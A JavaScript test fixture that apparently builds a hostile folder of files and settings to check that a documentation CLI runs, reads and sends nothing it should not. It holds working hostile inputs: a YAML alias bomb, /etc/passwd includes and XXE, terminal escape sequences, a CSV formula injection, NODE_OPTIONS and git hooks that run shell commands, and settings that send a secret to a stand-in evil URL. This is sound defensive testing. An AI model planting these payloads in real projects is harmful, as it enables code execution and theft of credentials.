// A folder that somebody else made: everything in it tries to be read, run, sent or printed.
import { execFileSync } from "node:child_process";
import { chmodSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makePlace } from "./program.js";

/** In the file that no document may bring in. */
export const secret = "CANARY-secret-0f5be2c1";
const escape = "\u001b]52;c;Q0FOQVJZ\u0007\u001b[31m\u009b2J\u202e";
export const hostileName = `Bench ${escape}`;

/** Code that leaves a file behind where it runs. */
const touch = (canary, name) => `touch ${JSON.stringify(join(canary, name))}`;
const script = (canary, name) =>
  `require("node:fs").writeFileSync(${JSON.stringify(join(canary, name))}, "");module.exports={};`;

function documents(canary) {
  const aliases = Array.from({ length: 12 }, (_, at) => {
    const before =
      at === 0
        ? '"x"'
        : Array(9)
            .fill(`*a${at - 1}`)
            .join(",");
    return `a${at}: &a${at} [${before}]`;
  });
  const engines = ["js", "javascript", "JS", "coffee", "constructor"].map((engine) => [
    `docs/engine-${engine}.md`,
    `---${engine}\n${script(canary, `engine-${engine}`)}\n---\n# Engine\n\nText.\n`,
  ]);
  return {
    ...Object.fromEntries(engines),
    "docs/good.md": "# Good\n\nA page of plain text, which is long enough to be one.\n",
    "docs/bomb.md": `---\n${aliases.join("\n")}\n---\n# Bomb\n\nText.\n`,
    "docs/nested.md": `---\na: ${"[".repeat(5000)}\n---\n# Nested\n\nText.\n`,
    "docs/numbers.md":
      "---\nweight: 1e999999\nbig: 99999999999999999999999999999999\ndate: 999999-99-99\n---\n# N\n\nText.\n",
    "docs/proto.md":
      "---\n__proto__:\n  polluted: yes\nconstructor: x\n---\n# Prototype\n\nText of a page.\n",
    "docs/tag.md":
      '---\na: !!js/function "function () {}"\nb: !!python/object x\n---\n# Tag\n\nText.\n',
    "docs/include.adoc":
      "= Include\n\ninclude::/etc/passwd[]\n\ninclude::../../secret.txt[]\n\ninclude::link.md[]\n\nText.\n",
    "docs/include.rst":
      "Include\n=======\n\n.. include:: /etc/passwd\n\n.. literalinclude:: ../../secret.txt\n\n.. include:: link.md\n\nText.\n",
    "docs/include.md":
      '# Include\n\n--8<-- "/etc/passwd"\n\n--8<-- "../../secret.txt"\n\n{!../../secret.txt!}\n\n```{include} ../../secret.txt\n```\n\n{{< include ../../secret.txt >}}\n\n![](../../secret.png) ![](file:///etc/passwd) ![](/etc/passwd)\n',
    "docs/xxe.html":
      '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><title>X</title><p>&x; <img src="../../secret.png"><script>x</script>Text.</p>',
    "docs/escapes.md": `# Title ${escape}\n\nText ${escape} with escapes.\n\n::error::x\n`,
    "docs/rows.csv": `id,text\n1e400,${escape}\n=cmd|' /C calc'!A0,"@SUM(1)"\n`,
    [`docs/\u001b]0;x\u0007\u001b[31m.md`]: "# Named\n\nText of a page with a bad name.\n",
    "docs/\u202etxt.md": "# Turned\n\nText of a page whose name turns.\n",
    "docs/a\n::error::b.md": "# Lines\n\nText of a page whose name has lines.\n",
    "suite.yaml": `version: 1\ncases:\n  - id: "x\\e[31m"\n    question: What?\n    must_retrieve: [../../secret.txt]\n`,
    "questions.ndjson": '{"message":"What \\u001b[31m?"}\n',
    "report.json": JSON.stringify({ version: 1, command: `ingest ${escape}`, summary: {} }),
    "state.ndjson": `{"type":"accepted","id":${JSON.stringify(escape)}}\n`,
  };
}

/** Configurations that code hides in, and those that lead elsewhere. */
function configurations(canary, evilUrl) {
  const code = script(canary, "configuration");
  const names = ["js", "cjs", "mjs", "ts"].flatMap((ending) => [
    `.cliconfigrc.${ending}`,
    `cliconfig.config.${ending}`,
    `.config/cliconfigrc.${ending}`,
    `.config/config.${ending}`,
    `knowctl.config.${ending}`,
  ]);
  const modules = ["jq-web", "libsql", "undici", "cosmiconfig", "commander"];
  return {
    ...Object.fromEntries(names.map((name) => [name, code])),
    ...Object.fromEntries(modules.map((name) => [`node_modules/${name}/index.js`, code])),
    "evil.js": code,
    ".env": `KNOWCTL_BASE_URL=${evilUrl}\nNODE_OPTIONS=--require ./evil.js\n`,
    ".npmrc": `registry=${evilUrl}\n`,
    "package.json": JSON.stringify({ cosmiconfig: { searchPlaces: ["evil.js"] } }),
  };
}

/** What leads elsewhere where a project file is believed. */
function projectFile(canary, evilUrl) {
  const stolen = { file: "../secret.txt" };
  return JSON.stringify({
    $import: "./evil.js",
    defaultProfile: "evil",
    profiles: {
      evil: {
        baseUrl: evilUrl,
        proxy: evilUrl,
        caFile: "../secret.txt",
        apiKey: stolen,
        accessToken: { command: ["sh", "-c", touch(canary, "command")] },
        headers: { "x-stolen": stolen },
        allowHttp: true,
        allowInsecureTls: true,
      },
    },
    ingest: { include: ["docs/**"] },
    notify: { command: ["sh", "-c", touch(canary, "notify")], url: evilUrl },
  });
}

/** A repository whose every setting that names a program leaves a canary. */
function makeRepository(folder, canary) {
  const git = (...args) =>
    execFileSync("git", ["-C", folder, ...args], {
      stdio: "ignore",
      env: { PATH: process.env.PATH, HOME: join(folder, "..") },
    });
  git("init", "-q");
  git("config", "user.email", "a@example.com");
  git("config", "user.name", "A");
  git("add", "docs/good.md", "docs/bomb.md");
  git("commit", "-qm", "Begin");
  writeFileSync(join(folder, ".gitattributes"), "* filter=evil diff=evil merge=evil\n");
  const settings = {
    "filter.evil.clean": "filter-clean",
    "filter.evil.smudge": "filter-smudge",
    "filter.evil.process": "filter-process",
    "diff.evil.textconv": "textconv",
    "diff.evil.command": "diff-command",
    "diff.external": "diff-external",
    "core.fsmonitor": "fsmonitor",
    "core.pager": "pager",
    "core.editor": "editor",
    "core.sshCommand": "ssh",
    "core.askPass": "askpass",
    "gpg.program": "gpg",
    "credential.helper": "credential",
    "uploadpack.packObjectsHook": "pack",
    "pager.log": "pager-log",
    "log.showSignature": "true",
  };
  for (const [name, what] of Object.entries(settings)) {
    git("config", name, what === "true" ? "true" : touch(canary, `git-${what}`));
  }
  const hooks = join(folder, ".git", "hooks");
  mkdirSync(hooks, { recursive: true });
  for (const hook of ["post-checkout", "pre-commit", "post-index-change", "fsmonitor-watchman"]) {
    writeFileSync(join(hooks, hook), `#!/bin/sh\n${touch(canary, `hook-${hook}`)}\n`);
    chmodSync(join(hooks, hook), 0o755);
  }
}

/** Variables that a parent may have set; none of them is this program's. */
function traps(canary, evilUrl) {
  const programs = ["PAGER", "GIT_PAGER", "EDITOR", "VISUAL", "BROWSER", "GIT_SSH_COMMAND"];
  const others = ["GIT_EXTERNAL_DIFF", "GIT_ASKPASS", "SSH_ASKPASS", "LESSOPEN"];
  const urls = ["HTTP_PROXY", "http_proxy", "ALL_PROXY", "all_proxy"];
  return {
    ...Object.fromEntries([...programs, ...others].map((name) => [name, touch(canary, name)])),
    ...Object.fromEntries(urls.map((name) => [name, evilUrl])),
    GIT_TRACE: "1",
    NO_PROXY: "",
  };
}

/**
 * Makes the folder in a place. With `isLed` a project file leads to another service as well. `canaries`
 * lists what ran.
 */
export function makeHostilePlace({ url, evilUrl, isLed }) {
  const place = makePlace({ url, dialect: "onyx" });
  const canary = join(place.home, "canary");
  mkdirSync(canary);
  writeFileSync(join(place.home, "secret.txt"), `${secret}\n`);
  writeFileSync(join(place.home, "secret.png"), secret);
  const files = { ...documents(canary), ...configurations(canary, evilUrl) };
  if (isLed) files[".cliconfig.json"] = projectFile(canary, evilUrl);
  for (const [path, content] of Object.entries(files)) {
    mkdirSync(join(place.folder, path, ".."), { recursive: true });
    writeFileSync(join(place.folder, path), content);
  }
  const link = (target, path) => symlinkSync(target, join(place.folder, path));
  link("../../secret.txt", "docs/link.md");
  link("/etc", "docs/etc");
  link(".", "docs/loop");
  link("../../..", "docs/out");
  link("/dev/zero", "docs/endless.md");
  makeRepository(place.folder, canary);
  return {
    ...place,
    env: { ...place.env, ...traps(canary, evilUrl), NO_COLOR: "1" },
    canaries: () => readdirSync(canary),
  };
}
